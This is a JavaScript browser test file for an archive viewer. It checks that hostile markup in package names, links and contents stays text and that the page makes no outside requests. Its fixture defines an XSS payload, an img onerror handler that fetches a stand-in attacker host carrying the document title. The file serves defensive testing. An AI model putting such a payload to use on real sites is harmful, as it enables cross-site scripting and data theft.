// A package whose names, paths and texts are markup and script: all of it stays text. Nothing is asked for, nothing pops up, and nothing of it becomes an element.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { packEntries } from "../lib/archive.mjs";
import { fixtureEntries } from "../lib/fixture.mjs";
import { check, closeSilent, fileWith, fixtureFolder, fixturePath, inEachBrowser, SCHEMES } from "./page.mjs";
import { asWritten, joinedLines, openEverything, readEach } from "./views.mjs";

/**
 * @typedef {import('./page.mjs').Page} Page
 * @typedef {import('./page.mjs').Report} Report
 */

const MARKUP = "<img src=x onerror=\"fetch('https://attacker.invalid/?'+document.title)\">";
const entries = fixtureEntries(fixtureFolder("hostile-markup"));
const texts = textsOf(entries);
const path = await fixturePath("hostile-markup");

/** The same once more, in an archive with such a name in it, beside a link to such a target. */
const holder = await fileWith(
  "holder.tgz",
  packEntries([
    ...entries,
    { path: `${MARKUP}.tgz`, bytes: packEntries(entries) },
    { path: `link ${MARKUP}`, link: MARKUP },
  ]),
);

/** What the reader says of a link, which has no bytes. */
const EMPTY = "This file is empty.";

/** Every element that the page itself makes, and no other. */
const OWN_ELEMENTS =
  "html head meta title link style body header main footer section article nav figure figcaption div span p h1 h2 h3 ul ol li dl dt dd a code strong bdi mark pre svg path button fieldset legend input label progress noscript script dialog details summary";

inEachBrowser(({ name, open, browser }) => {
  const proxy = deafProxy();
  before(() => proxy.listen());
  after(() => proxy.close());

  for (const scheme of SCHEMES) {
    test(`markup stays text, from ${scheme}`, async () => {
      const page = await open(scheme, { proxy: proxy.settings() });
      const { report } = await check(page, path);
      await openEverything(page);
      const shown = await page.evaluate(() => document.body.textContent);
      assert.ok(shown.includes(MARKUP), "the markup is shown as text");
      await checkElements(page);
      // Once is enough: the reader does not know where the page came from.
      if (scheme === "http") await readEveryFile(page, report);
      // The page itself is silent: this is checked for every page when it is closed.
      assert.deepEqual(proxy.heard, []);
    });
  }

  test("markup in archives inside, in links and in notes stays text", async () => {
    const page = await open("http", { proxy: proxy.settings() });
    const { report } = await check(page, holder);
    assert.equal(report.nested.length, entries.length);
    await openEverything(page);
    const marks = await page.locator(".left-out .mark").allTextContents();
    assert.ok(marks.some((mark) => mark.includes(`A link to ${MARKUP}`)));
    await checkElements(page);
    await readEveryFile(page, report);
    assert.deepEqual(proxy.heard, []);
  });

  test("what is typed, searched and saved is told to nobody, a browser's own helpers included", async () => {
    const page = await open("http", { proxy: proxy.settings() });
    await check(page, path);
    await page.click("#query");
    await page.keyboard.type("attacker.invalid");
    await page.keyboard.press("Enter");
    await page.waitForSelector(".match");
    await page.click("#save-all");
    await page.waitForSelector(".saving button");
    await checkElements(page);
    // Such helpers wait until nothing more is typed.
    await page.waitForTimeout(2_000);
    assert.deepEqual(proxy.heard, []);
  });

  test("a browser's helper, were it ever asked, would be heard", async () => {
    const page = await open("http", { proxy: proxy.settings() });
    await page.evaluate(() => document.querySelector("main").append(document.createElement("textarea")));
    await page.waitForTimeout(2_000);
    const asked = proxy.heard.splice(0);
    // Only one of the two browsers has such a helper.
    assert.equal(asked.length > 0, name === "chromium");
  });

  test("the same markup, were it ever parsed, would be noticed", async () => {
    const page = await open();
    await page.evaluate((markup) => document.body.insertAdjacentHTML("beforeend", markup), MARKUP);
    await page.waitForFunction(() => window.heard.violations.length > 0);
    await assert.rejects(checkElements(page), /img/);
    await assert.rejects(closeSilent(page), /img-src|127\.0\.0\.1/);
  });

  test("a request, were one ever sent, would be heard", async () => {
    const context = await browser().newContext({ proxy: proxy.settings() });
    await (await context.newPage()).evaluate(() => fetch("http://attacker.invalid/").catch(() => {}));
    await context.close();
    assert.deepEqual(proxy.heard.splice(0), ["http://attacker.invalid/"]);
  });
});

/**
 * Every row that opens, in both trees; each text is the one that was packed.
 * @param {Page} page
 * @param {Report} report
 */
async function readEveryFile(page, { entries, nested, sources }) {
  const count = await readEach(page, async (text) => {
    const shown = asWritten(text);
    assert.ok(shown === EMPTY || texts.some((packed) => isText(shown, packed)), `not a text of the package: ${shown}`);
    await checkElements(page);
  });
  const holders = new Set(nested.map(({ place }) => place.chain[0])).size;
  const held = entries.length - holders + nested.length;
  assert.equal(count, held + sources.filter(({ hasText, repeats }) => hasText && repeats === null).length);
}

/**
 * Nothing is there but the page's own elements, and none of them listens, links or loads.
 * @param {Page} page
 */
async function checkElements(page) {
  const found = await page.evaluate((own) => {
    const all = [...document.querySelectorAll("*")];
    const strange = all.filter(({ localName }) => !own.includes(localName)).map(({ localName }) => localName);
    const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ name, value })));
    const live = attributes.filter(
      ({ name, value }) =>
        /^on|^src|^srcdoc|^action|^formaction/.test(name) || (name === "href" && !/^(#|data:image\/svg)/.test(value)),
    );
    return {
      strange,
      live,
      scripts: document.scripts.length,
      styles: document.styleSheets.length,
      title: document.title,
    };
  }, OWN_ELEMENTS.split(" "));
  assert.deepEqual(found, { strange: [], live: [], scripts: 3, styles: 1, title: found.title });
}

/**
 * The texts that the reader may show: of each entry, and of each source in its map.
 * @param {import('../lib/archive.mjs').Entry[]} entries
 */
function textsOf(entries) {
  const published = entries.map(({ bytes }) => String(bytes));
  const map = JSON.parse(published.find((text) => text.startsWith('{"version":3')));
  return [...published, ...map.sourcesContent].map(joinedLines);
}

/**
 * The reader shows a text as it is; only where a token is in it, some of its characters are masked.
 * @param {string} shown
 * @param {string} packed
 */
function isText(shown, packed) {
  if (!/(ghp|npm)_/.test(packed)) return shown === packed;
  return shown.length === packed.length && [...shown].every((letter, at) => letter === "*" || letter === packed[at]);
}

/** A proxy that answers nobody and remembers who was asked for. */
function deafProxy() {
  /** @type {string[]} */
  const heard = [];
  const server = createServer((request, response) => (heard.push(request.url), response.writeHead(502).end()));
  server.on("connect", (request, socket) => (heard.push(request.url), socket.destroy()));
  return {
    heard,
    listen: () => new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined))),
    settings: () => ({ server: `http://127.0.0.1:${server.address().port}`, bypass: "127.0.0.1" }),
    close: () => (server.closeAllConnections(), server.close()),
  };
}
